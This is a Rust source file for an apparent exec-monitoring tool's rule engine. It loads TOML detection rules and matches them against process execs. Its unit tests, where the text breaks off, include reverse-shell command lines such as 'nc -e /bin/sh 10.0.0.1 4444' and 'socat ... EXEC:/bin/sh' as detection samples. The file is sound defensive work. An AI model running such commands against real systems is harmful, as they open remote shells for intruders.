// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
//! Exec rules (`--rules FILE|builtin`): TOML files of named conditions, checked in user space on
//! each record after it arrives, so the exec path in the kernel pays nothing for them.
//!
//! A file is a list of `[[rule]]` tables, each with `name`, `severity` (`info`, `low`,
//! `medium`, `high`, `critical`), a one-line `description`, a `match` table of conditions that
//! must all hold, and optional `except` tables: the rule does not match an exec that meets
//! every condition of any one of them. The format is documented in docs/execsnoop-rules.md.
//! Any error refuses the whole file, naming its line.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt as _;
use std::path::Path;

use common::output::escaped;
use globset::GlobBuilder;
use regex_automata::meta::{self, Regex};
use regex_automata::util::syntax;
use serde::Deserialize;
use toml::Spanned;

use crate::audit;

/// The built-in set, in the same format (tools/execsnoop/rules/builtin.toml).
pub const BUILTIN: &str = include_str!("../rules/builtin.toml");

/// How serious a match is, least first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    Low,
    Medium,
    High,
    Critical,
}

impl Severity {
    pub fn name(self) -> &'static str {
        match self {
            Severity::Info => "info",
            Severity::Low => "low",
            Severity::Medium => "medium",
            Severity::High => "high",
            Severity::Critical => "critical",
        }
    }
}

/// What a rule looks at in one exec; built once per record.
#[derive(Debug, Default)]
pub struct Exec<'a> {
    /// In a container (its cgroup says so); `None`: unknown.
    pub container: Option<bool>,
    /// The executable's path (`/proc/PID/exe` without ` (deleted)`); `None`: not known.
    pub exe: Option<Vec<u8>>,
    /// The executable's path was cut (deeper than the BPF side reads): `exe` holds its end only.
    pub exe_truncated: bool,
    /// The arguments were cut (longer than the BPF side reads): `argv` holds their start only.
    pub args_truncated: bool,
    /// For an exec that ran an interpreter (a `#!` script, a binfmt_misc program), the file the
    /// exec was given, absolute (`None`: no interpreter ran, or a relative name without a cwd).
    pub script: Option<Vec<u8>>,
    pub comm: &'a [u8],
    /// The caller's argv joined by single spaces.
    pub argv: Vec<u8>,
    /// The applet busybox runs when the executable is busybox ([`busybox_applet`]).
    pub applet: Option<&'a [u8]>,
    pub parent: &'a [u8],
    pub grandparent: Option<&'a [u8]>,
    /// `None`: not read; `Some(false)`: no controlling terminal.
    pub tty: Option<bool>,
    pub memfd: bool,
    pub deleted: bool,
    pub upper: bool,
    pub uid: u32,
    /// (euid, gid, egid, loginuid) when read.
    pub ids: Option<(u32, u32, u32, u32)>,
}

/// The part of `path` after its last `/` (all of it without one).
fn base_name(path: &[u8]) -> &[u8] {
    path.rsplit(|&b| b == b'/').next().unwrap_or(path)
}

/// The applet a busybox exec runs, decided as busybox decides it (libbb/appletlib.c, checked
/// against Debian's busybox 1.35): the base name of argv[0], one leading `-` (a login shell's,
/// `-sh`) removed first; while that name starts with `busybox` (`busybox`, `busybox-x`,
/// `/x y/busybox.static`), the base name of the next argument instead (`busybox sh`,
/// `busybox /bin/sh`, `busybox busybox sh`). The directories do not count, spaces or not
/// (`exec -a "/x y/nc" busybox` runs nc).
///
/// `exe` is the executable's path; the exec is busybox's when its base name starts with
/// `busybox` (`/usr/bin/busybox`; a symlink such as /bin/sh -> busybox is resolved by the
/// kernel, a hard link or copy of another name is not recognised). `argv` is the argv the new
/// process started with (for a `#!/bin/busybox sh` script, the interpreter's). `None`: not
/// busybox, the executable unknown, or no argument left to name the applet.
pub fn busybox_applet<'a>(exe: Option<&[u8]>, argv: &[&'a [u8]]) -> Option<&'a [u8]> {
    if !base_name(exe?).starts_with(b"busybox") {
        return None;
    }
    let first = argv.first()?;
    let mut name = base_name(first.strip_prefix(b"-").unwrap_or(first));
    for next in &argv[1..] {
        if !name.starts_with(b"busybox") {
            break;
        }
        name = base_name(next);
    }
    (!name.starts_with(b"busybox")).then_some(name)
}

// The file's shape. Conditions are optional; every one given must hold.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    #[serde(default)]
    rule: Vec<RawRule>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRule {
    name: Spanned<String>,
    severity: Severity,
    description: Spanned<String>,
    #[serde(rename = "match")]
    when: Spanned<When>,
    #[serde(default)]
    except: Vec<Spanned<RawCond>>,
}

/// `match`: one table of conditions, or a list of tables of which any one may hold (a shell
/// known by its file or by its name).
enum When {
    One(Box<RawCond>),
    Any(Vec<Spanned<RawCond>>),
}

impl<'de> Deserialize<'de> for When {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = When;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("a table of conditions, or a list of such tables")
            }
            fn visit_map<A: serde::de::MapAccess<'de>>(self, map: A) -> Result<When, A::Error> {
                RawCond::deserialize(serde::de::value::MapAccessDeserializer::new(map))
                    .map(|c| When::One(Box::new(c)))
            }
            fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut seq: A) -> Result<When, A::Error> {
                let mut v = Vec::new();
                while let Some(c) = seq.next_element()? {
                    v.push(c);
                }
                Ok(When::Any(v))
            }
        }
        d.deserialize_any(V)
    }
}

#[derive(Deserialize, Default)]
#[serde(deny_unknown_fields)]
struct RawCond {
    container: Option<bool>,
    exe: Option<Spanned<Vec<Spanned<String>>>>,
    script: Option<Spanned<Vec<Spanned<String>>>>,
    comm: Option<Spanned<Vec<Spanned<String>>>>,
    applet: Option<Spanned<Vec<Spanned<String>>>>,
    argv: Option<Spanned<String>>,
    parent: Option<Spanned<Vec<Spanned<String>>>>,
    ancestor: Option<Spanned<Vec<Spanned<String>>>>,
    tty: Option<bool>,
    flags: Option<Spanned<Vec<Spanned<String>>>>,
    setuid: Option<bool>,
    uid: Option<Spanned<Vec<u32>>>,
    euid: Option<Spanned<Vec<u32>>>,
    loginuid: Option<Spanned<Vec<u32>>>,
}

/// Refuse `field = []`: a list condition holds when the exec's value is one of the list's, so an
/// empty one holds for no exec, and its rule (or except table) would silently never apply.
fn not_empty<T>(field: &str, v: &Option<Spanned<Vec<T>>>) -> Result<(), Problem> {
    match v {
        Some(l) if l.get_ref().is_empty() => Err((
            l.span().start,
            format!(
                "{field} = []: an empty list, which no exec matches (leave {field} out to match any)"
            ),
        )),
        _ => Ok(()),
    }
}

/// One checked condition set.
#[derive(Debug, Default)]
struct Cond {
    container: Option<bool>,
    exe: Option<Regex>,
    script: Option<Regex>,
    comm: Option<Regex>,
    applet: Option<Regex>,
    argv: Option<Regex>,
    parent: Option<Regex>,
    ancestor: Option<Regex>,
    tty: Option<bool>,
    /// Any of these: memfd, deleted, upper (fileless = memfd or deleted).
    flags: Option<Flags>,
    setuid: Option<bool>,
    uid: Option<Vec<u32>>,
    euid: Option<Vec<u32>>,
    loginuid: Option<Vec<u32>>,
}

#[derive(Debug, Default, Clone, Copy)]
struct Flags {
    memfd: bool,
    deleted: bool,
    upper: bool,
    truncated: bool,
    args_truncated: bool,
}

impl Flags {
    /// Any flag of the executable (read with the exe path)?
    fn of_exe(self) -> bool {
        self.memfd || self.deleted || self.upper || self.truncated
    }
}

/// A rule ready to match.
#[derive(Debug)]
pub struct Rule {
    pub name: String,
    /// Where it is defined, `FILE:LINE` (its name's line), for a clash across files.
    pub at: String,
    pub severity: Severity,
    pub description: String,
    /// Any of these (`match` as a list), or the one.
    when: Vec<Cond>,
    except: Vec<Cond>,
}

/// What one exec matched, for JSON.
pub struct Tagged {
    pub names: Vec<String>,
    pub severity: Option<Severity>,
}

/// The loaded rules, in file order.
#[derive(Debug, Default)]
pub struct Rules {
    pub rules: Vec<Rule>,
}

/// 1-based line of byte `offset` in `text`.
fn line_of(text: &str, offset: usize) -> usize {
    text.as_bytes()[..offset.min(text.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count()
        + 1
}

/// The longest rule name, in bytes: it is a column (RULE) and a JSON value in every match.
pub const NAME_MAX: usize = 64;

/// A problem at a place in the file: `(byte offset, message)`.
type Problem = (usize, String);

/// The most one condition (an `argv` regex, or one field's glob list) may take when compiled:
/// the regex crate's `size_limit`, applied to its NFA. `argv = '\\w{200}'` (200 Unicode word
/// classes) needs about 12 MiB and is refused; ordinary patterns take a few KiB.
pub const PATTERN_LIMIT: usize = 1 << 20;

/// The lazy DFA's cache of one condition at most (the regex crate's `dfa_size_limit`): states
/// are built while matching, and a pattern that needs more runs on a slower engine instead.
pub const CACHE_LIMIT: usize = 128 << 10;

/// The most all rules loaded (every `--rules`) may take compiled, each condition counted as its
/// compiled size plus [`CACHE_LIMIT`]: many conditions each under [`PATTERN_LIMIT`] are refused
/// here instead of exhausting memory.
pub const RULES_BUDGET: usize = 32 << 20;

/// Memory left for the rules' compiled patterns, counted down from [`RULES_BUDGET`].
#[derive(Debug)]
struct Budget(usize);

impl Default for Budget {
    fn default() -> Self {
        Budget(RULES_BUDGET)
    }
}

fn mib(n: usize) -> String {
    if n.is_multiple_of(1 << 20) {
        format!("{} MiB", n >> 20)
    } else {
        format!("{} KiB", n >> 10)
    }
}

/// Compile `pats` (regexes, one automaton for all) within [`PATTERN_LIMIT`], charged to
/// `budget`. `what` names the condition in errors (`argv regex`, `exe globs`). The build stops as
/// soon as it passes the limit, so a huge pattern costs no more than the limit to refuse.
fn compile(
    pats: &[&str],
    what: &str,
    hint: &str,
    at: usize,
    budget: &mut Budget,
) -> Result<Regex, Problem> {
    // As regex::bytes::Regex: matched on bytes, a Unicode class matches UTF-8 text. `.` matches
    // a newline too (as globset's own matcher sets it): a path or argument may hold one, and a
    // glob's `**` (compiled to `.*`) or a regex's `.*` that stopped there would let a name with
    // a newline (`/tmp/a\nb/x`) slip past every rule. `(?-s)` in a regex restores the default.
    let syntax = syntax::Config::new().utf8(false).dot_matches_new_line(true);
    let config = meta::Config::new()
        .utf8_empty(false)
        .nfa_size_limit(Some(PATTERN_LIMIT))
        .hybrid_cache_capacity(CACHE_LIMIT);
    let re = Regex::builder()
        .syntax(syntax)
        .configure(config)
        .build_many(pats)
        .map_err(|e| {
            let msg = if let Some(s) = e.syntax_error() {
                format!("bad {what}: {}", one_line(&s.to_string()))
            } else if e.size_limit().is_some() {
                format!(
                    "{what} too large: compiled, it passes the limit of {} for one condition \
                     ({hint})",
                    mib(PATTERN_LIMIT)
                )
            } else {
                format!("bad {what}: {e}")
            };
            (at, msg)
        })?;
    let cost = re.memory_usage() + CACHE_LIMIT;
    budget.0 = budget.0.checked_sub(cost).ok_or_else(|| {
        (
            at,
            format!(
                "{what}: the rules loaded take more than {} compiled in all, the limit",
                mib(RULES_BUDGET)
            ),
        )
    })?;
    Ok(re)
}

/// One field's glob list as one automaton. globset turns each glob into a regex; they are
/// compiled here, within the same limits as `argv`, rather than by globset (whose limits are its
/// own, 10 MiB a set).
fn globs(
    field: &str,
    list: &Spanned<Vec<Spanned<String>>>,
    path_like: bool,
    budget: &mut Budget,
) -> Result<Regex, Problem> {
    let mut res = Vec::new();
    for p in list.get_ref() {
        // Paths are absolute: a glob that starts otherwise ("", "nc", "bin/nc") matches none.
        let g = p.get_ref();
        if path_like && !(g.starts_with('/') || g.starts_with("**") || g.starts_with('{')) {
            return Err((
                p.span().start,
                format!(
                    "{field} glob '{}': a path glob starts with '/' or '**' \
                     (\"/usr/bin/nc\", \"**/nc\" in any directory), or is a {{..}} of such",
                    escaped(g.as_bytes())
                ),
            ));
        }
        // In paths `*` stays within one name and `**` crosses directories, as in .gitignore.
        let g = GlobBuilder::new(p.get_ref())
            .literal_separator(path_like)
            .build()
            .map_err(|e| {
                (
                    p.span().start,
                    format!(
                        "bad glob '{}': {}",
                        escaped(p.get_ref().as_bytes()),
                        e.kind()
                    ),
                )
            })?;
        res.push(g.regex().to_owned());
    }
    let pats: Vec<&str> = res.iter().map(String::as_str).collect();
    compile(
        &pats,
        &format!("{field} globs"),
        "fewer or shorter globs, or fewer character classes such as [!a]",
        list.span().start,
        budget,
    )
}

fn cond(raw: &RawCond, at: usize, budget: &mut Budget) -> Result<Cond, Problem> {
    for (field, v) in [
        ("exe", &raw.exe),
        ("script", &raw.script),
        ("comm", &raw.comm),
        ("applet", &raw.applet),
        ("parent", &raw.parent),
        ("ancestor", &raw.ancestor),
        ("flags", &raw.flags),
    ] {
        not_empty(field, v)?;
    }
    for (field, v) in [
        ("uid", &raw.uid),
        ("euid", &raw.euid),
        ("loginuid", &raw.loginuid),
    ] {
        not_empty(field, v)?;
    }
    let argv = raw
        .argv
        .as_ref()
        .map(|r| {
            compile(
                &[r.get_ref()],
                "argv regex",
                "fewer or smaller repetitions, or ASCII classes such as (?-u:\\w) or [0-9]",
                r.span().start,
                budget,
            )
        })
        .transpose()?;
    let mut set = |field, v: &Option<Spanned<Vec<Spanned<String>>>>, path| {
        v.as_ref()
            .map(|l| globs(field, l, path, budget))
            .transpose()
    };
    let flags = raw
        .flags
        .as_ref()
        .map(|names| {
            let mut f = Flags::default();
            for n in names.get_ref() {
                match n.get_ref().as_str() {
                    "memfd" => f.memfd = true,
                    "deleted" => f.deleted = true,
                    "fileless" => (f.memfd, f.deleted) = (true, true),
                    "upper" => f.upper = true,
                    "truncated" => f.truncated = true,
                    "args_truncated" => f.args_truncated = true,
                    other => {
                        return Err((
                            n.span().start,
                            format!(
                                "unknown flag '{}' (known: memfd, deleted, fileless, upper, \
                                 truncated, args_truncated)",
                                escaped(other.as_bytes())
                            ),
                        ));
                    }
                }
            }
            Ok(f)
        })
        .transpose()?;
    let c = Cond {
        container: raw.container,
        exe: set("exe", &raw.exe, true)?,
        script: set("script", &raw.script, true)?,
        comm: set("comm", &raw.comm, false)?,
        applet: set("applet", &raw.applet, false)?,
        argv,
        parent: set("parent", &raw.parent, false)?,
        ancestor: set("ancestor", &raw.ancestor, false)?,
        tty: raw.tty,
        flags,
        setuid: raw.setuid,
        uid: raw.uid.as_ref().map(|v| v.get_ref().clone()),
        euid: raw.euid.as_ref().map(|v| v.get_ref().clone()),
        loginuid: raw.loginuid.as_ref().map(|v| v.get_ref().clone()),
    };
    if c.is_empty() {
        return Err((at, "a condition table with no conditions".into()));
    }
    Ok(c)
}

/// A regex error spans several lines (the pattern, a caret, the message): keep the message.
fn one_line(s: &str) -> String {
    s.lines()
        .rev()
        .find(|l| !l.trim().is_empty())
        .unwrap_or(s)
        .trim()
        .trim_start_matches("error: ")
        .to_owned()
}

impl Cond {
    fn is_empty(&self) -> bool {
        self.container.is_none()
            && self.exe.is_none()
            && self.script.is_none()
            && self.comm.is_none()
            && self.applet.is_none()
            && self.argv.is_none()
            && self.parent.is_none()
            && self.ancestor.is_none()
            && self.tty.is_none()
            && self.flags.is_none()
            && self.setuid.is_none()
            && self.uid.is_none()
            && self.euid.is_none()
            && self.loginuid.is_none()
    }

    /// Do all conditions hold? A condition on a field that was not read does not hold.
    fn holds(&self, x: &Exec<'_>) -> bool {
        let glob = |g: &Option<Regex>, v: &[u8]| g.as_ref().is_none_or(|g| g.is_match(v));
        let ids = x.ids;
        self.container.is_none_or(|want| x.container == Some(want))
            && self
                .exe
                .as_ref()
                .is_none_or(|g| x.exe.as_deref().is_some_and(|p| g.is_match(p)))
            && self
                .script
                .as_ref()
                .is_none_or(|g| x.script.as_deref().is_some_and(|p| g.is_match(p)))
            && glob(&self.comm, x.comm)
            && self
                .applet
                .as_ref()
                .is_none_or(|g| x.applet.is_some_and(|a| g.is_match(a)))
            && self.argv.as_ref().is_none_or(|r| r.is_match(&x.argv))
            && glob(&self.parent, x.parent)
            && self.ancestor.as_ref().is_none_or(|g| {
                g.is_match(x.parent) || x.grandparent.is_some_and(|v| g.is_match(v))
            })
            && self.tty.is_none_or(|want| x.tty == Some(want))
            && self.flags.is_none_or(|f| {
                (f.memfd && x.memfd)
                    || (f.deleted && x.deleted)
                    || (f.upper && x.upper)
                    || (f.truncated && x.exe_truncated)
                    || (f.args_truncated && x.args_truncated)
            })
            && self.setuid.is_none_or(|want| {
                ids.is_some_and(|(euid, gid, egid, _)| (euid != x.uid || egid != gid) == want)
            })
            && self.uid.as_ref().is_none_or(|v| v.contains(&x.uid))
            && self
                .euid
                .as_ref()
                .is_none_or(|v| ids.is_some_and(|(euid, ..)| v.contains(&euid)))
            && self
                .loginuid
                .as_ref()
                .is_none_or(|v| ids.is_some_and(|(.., l)| v.contains(&l)))
    }

    /// The audit parts (`audit::AUDIT_*`) the BPF side must read for these conditions.
    fn parts(&self) -> u16 {
        let mut p = 0;
        // The applet is known only when the executable is known to be busybox.
        if self.exe.is_some() || self.applet.is_some() || self.flags.is_some_and(Flags::of_exe) {
            p |= audit::AUDIT_EXE;
        }
        // A script given by a relative name is made absolute with the working directory.
        if self.script.is_some() {
            p |= audit::AUDIT_CWD;
        }
        if self.tty.is_some() {
            p |= audit::AUDIT_TTY;
        }
        if self.setuid.is_some() || self.euid.is_some() || self.loginuid.is_some() {
            p |= audit::AUDIT_IDS;
        }
        if self.ancestor.is_some() {
            p |= audit::AUDIT_GPARENT;
        }
        p
    }
}

impl Rules {
    /// Parse one rules file; `name` is how errors name it (`FILE:LINE: problem`).
    #[cfg(test)]
    pub fn parse(name: &str, text: &str) -> Result<Rules, String> {
        Rules::parse_within(name, text, &mut Budget::default())
    }

    /// [`Rules::parse`], the compiled patterns charged to `budget` (shared by every file loaded).
    fn parse_within(name: &str, text: &str, budget: &mut Budget) -> Result<Rules, String> {
        let at = |off: usize, msg: &str| format!("{name}:{}: {msg}", line_of(text, off));
        let file: File = toml::from_str(text).map_err(|e| {
            let off = e.span().map_or(0, |s| s.start);
            let msg = one_line(e.message());
            // toml says "duplicate key" alone: name the key, which its span covers.
            let key = e
                .span()
                .and_then(|s| text.get(s))
                .filter(|k| msg == "duplicate key" && !k.is_empty() && !k.contains('\n'));
            match key {
                Some(k) => at(off, &format!("duplicate key '{}'", escaped(k.as_bytes()))),
                None => at(off, &msg),
            }
        })?;
        let mut rules: Vec<Rule> = Vec::new();
        for r in file.rule {
            let n = r.name.get_ref();
            let valid = !n.is_empty()
                && n.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b));
            if !valid {
                return Err(at(
                    r.name.span().start,
                    &format!(
                        "rule name '{}': use letters, digits, '-', '_', '.'",
                        escaped(n.as_bytes())
                    ),
                ));
            }
            if n.len() > NAME_MAX {
                return Err(at(
                    r.name.span().start,
                    &format!(
                        "rule name of {} bytes: the longest allowed is {NAME_MAX}",
                        n.len()
                    ),
                ));
            }
            // Named as a clash across files is: both places.
            if let Some(first) = rules.iter().find(|x| &x.name == n) {
                return Err(format!(
                    "{name}:{}: rule '{n}' is already defined at {}",
                    line_of(text, r.name.span().start),
                    first.at
                ));
            }
            if r.description.get_ref().trim().is_empty() {
                return Err(at(
                    r.description.span().start,
                    "description = \"\": say what the rule flags (--list-rules shows it)",
                ));
            }
            let when = match r.when.get_ref() {
                When::One(c) => vec![cond(c, r.when.span().start, budget)],
                When::Any(l) if l.is_empty() => {
                    return Err(at(
                        r.when.span().start,
                        "match = []: no condition tables, which no exec matches",
                    ));
                }
                When::Any(l) => l
                    .iter()
                    .map(|c| cond(c.get_ref(), c.span().start, budget))
                    .collect(),
            }
            .into_iter()
            .collect::<Result<Vec<_>, _>>()
            .map_err(|(o, m)| at(o, &m))?;
            let except = r
                .except
                .iter()
                .map(|c| cond(c.get_ref(), c.span().start, budget))
                .collect::<Result<Vec<_>, _>>()
                .map_err(|(o, m)| at(o, &m))?;
            rules.push(Rule {
                name: n.clone(),
                at: format!("{name}:{}", line_of(text, r.name.span().start)),
                severity: r.severity,
                description: r.description.into_inner(),
                when,
                except,
            });
        }
        if rules.is_empty() {
            return Err(format!("{name}: no [[rule]] tables"));
        }
        Ok(Rules { rules })
    }

    /// Load `--rules` values in order: `builtin` or a file path (any bytes: a path need not be
    /// UTF-8). A name used twice is refused. Errors name a file as typed, escaped as the tools
    /// escape output (`a\\nb`, `\\xff`), on one line.
    pub fn load<S: AsRef<OsStr>>(sources: &[S]) -> Result<Rules, String> {
        let mut all = Rules::default();
        let mut budget = Budget::default();
        for src in sources {
            let src = src.as_ref();
            if src.is_empty() {
                return Err("--rules '': needs a rules file or builtin".into());
            }
            let name = common::output::escaped(src.as_bytes());
            let more = if src == "builtin" {
                Rules::parse_within("builtin", BUILTIN, &mut budget)?
            } else {
                Rules::parse_within(&name, &read_rules_file(Path::new(src), &name)?, &mut budget)?
            };
            for r in more.rules {
                if let Some(first) = all.rules.iter().find(|x| x.name == r.name) {
                    return Err(format!(
                        "{}: rule '{}' is already defined at {}",
                        r.at, r.name, first.at
                    ));
                }
                all.rules.push(r);
            }
        }
        Ok(all)
    }

    /// The audit parts the rules look at, for the BPF side to read.
    pub fn parts(&self) -> u16 {
        self.rules
            .iter()
            .flat_map(|r| r.when.iter().chain(&r.except))
            .fold(0, |p, c| p | c.parts())
    }

    /// Do any rules look at whether the exec is in a container?
    pub fn need_container(&self) -> bool {
        self.rules
            .iter()
            .flat_map(|r| r.when.iter().chain(&r.except))
            .any(|c| c.container.is_some())
    }

    /// Indices of the rules this exec matches, in file order.
    pub fn matches(&self, x: &Exec<'_>) -> Vec<usize> {
        self.rules
            .iter()
            .enumerate()
            .filter(|(_, r)| {
                r.when.iter().any(|c| c.holds(x)) && !r.except.iter().any(|c| c.holds(x))
            })
            .map(|(i, _)| i)
            .collect()
    }

    /// The RULE column's least width: its header's, or the longest rule name, so that a row
    /// matching one rule lines up with the header.
    pub fn name_width(&self) -> usize {
        self.rules
            .iter()
            .map(|r| r.name.len())
            .fold("RULE".len(), usize::max)
    }

    /// The RULE column: matched names joined by commas, `-` for none.
    pub fn names(&self, matched: &[usize]) -> String {
        if matched.is_empty() {
            return "-".into();
        }
        let names: Vec<&str> = matched
            .iter()
            .map(|&i| self.rules[i].name.as_str())
            .collect();
        names.join(",")
    }

    /// JSON's `rules` (names) and `severity` (the highest, `None` without a match).
    pub fn tagged(&self, matched: &[usize]) -> Tagged {
        Tagged {
            names: matched
                .iter()
                .map(|&i| self.rules[i].name.clone())
                .collect(),
            severity: matched.iter().map(|&i| self.rules[i].severity).max(),
        }
    }

    /// `--list-rules --json`: one JSON object a line per rule, `{"name":..,"severity":..,
    /// "description":..}`, as `--json` prints one per exec.
    pub fn listing_json(&self) -> String {
        let mut out = Vec::new();
        for r in &self.rules {
            out.extend_from_slice(b"{\"name\":");
            common::output::json_string(&mut out, r.name.as_bytes());
            out.extend_from_slice(b",\"severity\":");
            common::output::json_string(&mut out, r.severity.name().as_bytes());
            out.extend_from_slice(b",\"description\":");
            common::output::json_string(&mut out, r.description.as_bytes());
            out.extend_from_slice(b"}\n");
        }
        // json_string writes valid UTF-8 only.
        String::from_utf8_lossy(&out).into_owned()
    }

    /// `--list-rules`: one rule a line, NAME SEVERITY DESCRIPTION, aligned.
    pub fn listing(&self) -> String {
        let w = self
            .rules
            .iter()
            .map(|r| r.name.len())
            .max()
            .unwrap_or(4)
            .max(4);
        let mut out = format!("{:<w$} {:<8} DESCRIPTION\n", "NAME", "SEVERITY");
        for r in &self.rules {
            out.push_str(&format!(
                "{:<w$} {:<8} {}\n",
                r.name,
                r.severity.name(),
                // A file's text: a newline would forge a rule line, ESC reach the terminal.
                common::output::escaped(r.description.as_bytes())
            ));
        }
        out
    }
}

/// The largest rules file read: rules files are text of a few KiB, and a limit keeps a path
/// such as /dev/zero or a huge file from taking the machine's memory.
const MAX_RULES_FILE: u64 = 1 << 20;

/// The text of the rules file at `path` (`src` in messages): a regular file of at most
/// [`MAX_RULES_FILE`] bytes. Opened without blocking, so a FIFO is refused instead of waiting
/// for a writer.
fn read_rules_file(path: &Path, src: &str) -> Result<String, String> {
    use std::io::Read as _;
    use std::os::unix::fs::OpenOptionsExt as _;
    let err = |e: std::io::Error| format!("{src}: {e}");
    let f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(path)
        .map_err(err)?;
    let meta = f.metadata().map_err(err)?;
    if !meta.is_file() {
        return Err(format!("{src}: not a regular file"));
    }
    let too_big = || format!("{src}: larger than {MAX_RULES_FILE} bytes, too big for a rules file");
    if meta.len() > MAX_RULES_FILE {
        return Err(too_big());
    }
    let mut bytes = Vec::new();
    f.take(MAX_RULES_FILE + 1)
        .read_to_end(&mut bytes)
        .map_err(err)?;
    if bytes.len() as u64 > MAX_RULES_FILE {
        return Err(too_big());
    }
    String::from_utf8(bytes).map_err(|e| not_utf8(src, e.as_bytes(), e.utf8_error()))
}

/// `FILE:LINE: ...` for a rules file that is not UTF-8 (TOML is UTF-8 text): the line and byte
/// offset of the first bad byte, shown as `\xNN`.
fn not_utf8(src: &str, bytes: &[u8], e: std::str::Utf8Error) -> String {
    let at = e.valid_up_to();
    let line = bytes[..at].iter().filter(|&&b| b == b'\n').count() + 1;
    let bad = bytes
        .get(at)
        .map_or(String::new(), |b| format!(" \\x{b:02x}"));
    format!("{src}:{line}: not UTF-8 text (byte{bad} at offset {at}); a rules file is TOML, UTF-8")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec<'a>() -> Exec<'a> {
        Exec {
            container: Some(false),
            exe: Some(b"/usr/bin/true".to_vec()),
            comm: b"true",
            argv: b"true".to_vec(),
            parent: b"bash",
            grandparent: Some(b"sshd"),
            tty: Some(false),
            uid: 1000,
            ids: Some((1000, 1000, 1000, 1000)),
            ..Default::default()
        }
    }

    fn names(r: &Rules, x: &Exec<'_>) -> Vec<String> {
        r.matches(x)
            .into_iter()
            .map(|i| r.rules[i].name.clone())
            .collect()
    }

    #[test]
    fn builtin_parses_and_lists() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        assert_eq!(
            r.listing(),
            "NAME                        SEVERITY DESCRIPTION\n\
             terminal-shell-in-container high     A shell started with a terminal inside a container (someone is typing in it)\n\
             exec-from-temp-dir          medium   An executable run from /tmp, /dev/shm, /run/shm or /var/tmp\n\
             exe-path-truncated          medium   An executable whose path is too deep to read whole: where it lives (/tmp or not) is unknown\n\
             args-truncated              medium   An exec whose arguments are longer than execsnoop reads: rules on argv see only their start\n\
             fileless-exec               high     An executable with no name on disk: a memfd, or a file deleted before it ran\n\
             container-drift             high     A binary written into a container's upper layer after it started, then run\n\
             netcat-exec                 critical A network tool started with an option that runs a program (nc -e and the like)\n\
             shell-from-server           high     A shell whose parent is a web server or database process\n\
             setuid-gain                 low      A set-user-ID or set-group-ID program raised the effective ids above the real ones\n"
        );
        let all = audit::AUDIT_EXE | audit::AUDIT_CWD | audit::AUDIT_TTY | audit::AUDIT_IDS;
        assert_eq!(r.parts(), all);
        assert!(r.need_container());
    }

    #[test]
    fn builtin_matches_what_it_says() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        assert!(names(&r, &exec()).is_empty());
        let shm = Exec {
            exe: Some(b"/dev/shm/x".to_vec()),
            ..exec()
        };
        assert_eq!(names(&r, &shm), ["exec-from-temp-dir"]);
        // `**` crosses directories; the prefix must be a whole name.
        let deep = Exec {
            exe: Some(b"/tmp/a/b/c".to_vec()),
            ..exec()
        };
        assert_eq!(names(&r, &deep), ["exec-from-temp-dir"]);
        // Deeper than the BPF side reads: the start, /tmp or not, is lost; flagged instead.
        let cut = Exec {
            exe: Some(b".../b/c".to_vec()),
            exe_truncated: true,
            ..exec()
        };
        assert_eq!(names(&r, &cut), ["exe-path-truncated"]);
        let near = Exec {
            exe: Some(b"/tmpfoo/x".to_vec()),
            ..exec()
        };
        assert!(names(&r, &near).is_empty());
        let memfd = Exec {
            memfd: true,
            exe: Some(b"/memfd:x".to_vec()),
            ..exec()
        };
        assert_eq!(names(&r, &memfd), ["fileless-exec"]);
        let shell = Exec {
            container: Some(true),
            comm: b"bash",
            tty: Some(true),
            upper: true,
            ..exec()
        };
        assert_eq!(
            names(&r, &shell),
            ["terminal-shell-in-container", "container-drift"]
        );
        // A shell is known by its file too: a link of another name, or busybox by its applet.
        for (comm, exe, argv, hit) in [
            (
                &b"notashell"[..],
                &b"/usr/bin/bash"[..],
                &b"notashell -i"[..],
                true,
            ),
            (b"x", b"/bin/busybox", b"sh -i", true),
            (b"x", b"/bin/busybox", b"-sh", true),
            (b"busybox", b"/bin/busybox", b"/bin/busybox sh", true),
            (b"sh", b"/bin/busybox", b"sh", true),
            (b"ls", b"/bin/busybox", b"ls -l", false),
            (b"bashful", b"/usr/bin/bashful", b"bashful", false),
        ] {
            let words: Vec<&[u8]> = argv.split(|&b| b == b' ').collect();
            let x = Exec {
                comm,
                exe: Some(exe.to_vec()),
                argv: argv.to_vec(),
                applet: busybox_applet(Some(exe), &words),
                script: None,
                upper: false,
                ..shell
            };
            assert_eq!(
                names(&r, &x) == ["terminal-shell-in-container"],
                hit,
                "{}",
                String::from_utf8_lossy(argv)
            );
        }
        // The same on the host: neither container rule.
        assert!(
            names(
                &r,
                &Exec {
                    container: Some(false),
                    ..shell
                }
            )
            .is_empty()
        );
        for (comm, argv, hit) in [
            (&b"nc"[..], &b"nc -e /bin/sh 10.0.0.1 4444"[..], true),
            (b"nc.traditional", b"nc.traditional -lvp 4444 -c sh", true),
            (b"ncat", b"ncat --sh-exec sh host 1", true),
            (b"socat", b"socat TCP:h:1 EXEC:/bin/sh", true),
            // Values attached, flags before, long options with = or abbreviated.
            (b"nc", b"nc -e/bin/sh 10.0.0.1 4444", true),
            (b"ncat", b"ncat -cbash -i 10.0.0.1 4444", true),
            (b"nc", b"nc -ve/bin/sh h 1", true),
            (b"nc", b"nc -nlvp4444 -e/bin/sh", true),
            (b"ncat", b"ncat --exec=/bin/sh h 1", true),
            (b"ncat", b"ncat --ex /bin/sh h 1", true),
            (b"ncat", b"ncat --sh-exec=bash h 1", true),
            (b"ncat", b"ncat --lua-exec=x.lua h 1", true),
